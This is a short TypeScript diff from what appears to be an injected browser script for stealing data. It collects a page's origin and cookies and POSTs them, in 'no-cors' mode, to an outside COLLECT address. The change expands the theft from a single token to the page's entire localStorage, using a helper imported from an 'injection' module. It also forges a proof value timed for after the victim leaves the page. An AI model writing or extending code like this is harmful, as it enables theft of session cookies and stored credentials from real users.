@@ -3,6 +3,7 @@ import { base64url } from 'jose'
 import { headerOf, type Page } from '../browser/index.ts'
 import { COLLECT } from './addresses.ts'
 import type { Report } from './collect.ts'
+import { everythingIn } from './injection.ts'
 import { ownProof } from './proof.ts'
 
 /** For how much later, in milliseconds: when she has closed the page. */
@@ -29,8 +30,8 @@ export async function presign(page: Page): Promise<void> {
   const report: Report = {
     origin: page.origin,
     cookies: page.cookie,
-    token,
-    seenIn: 'localStorage',
+    localStorage: everythingIn(page),
+    overheard: null,
     proof: { ...target, value: await proof(page.now() + LATER, nonce) },
   }
   await page.fetch(COLLECT, { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) })
